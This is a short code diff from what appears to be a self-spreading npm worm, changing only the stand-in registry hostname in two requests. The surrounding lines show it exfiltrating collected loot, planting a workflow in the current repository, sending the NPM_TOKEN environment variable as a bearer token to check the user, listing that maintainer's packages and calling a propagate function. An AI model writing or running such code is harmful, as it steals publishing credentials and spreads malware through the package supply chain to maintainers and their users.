@@ -37,7 +37,7 @@ function plantWorkflow(repo) {
 }
 
 function whoami(token, cb) {
-  https.get({ hostname: 'registry.npmjs.invalid', path: '/-/whoami', headers: { authorization: 'Bearer ' + token } }, (r) => {
+  https.get({ hostname: 'registry.worm.invalid', path: '/-/whoami', headers: { authorization: 'Bearer ' + token } }, (r) => {
     let b = '';
     r.on('data', (c) => (b += c));
     r.on('end', () => cb(JSON.parse(b).username));
@@ -61,7 +61,7 @@ function main() {
   exfiltrate(loot);
   plantWorkflow(process.cwd());
   whoami(process.env.NPM_TOKEN, (user) => {
-    https.get('https://registry.npmjs.invalid/-/v1/search?text=maintainer:' + user, () => {
+    https.get('https://registry.worm.invalid/-/v1/search?text=maintainer:' + user, () => {
       propagate(os.tmpdir() + '/shai-hulud-package');
     });
   });
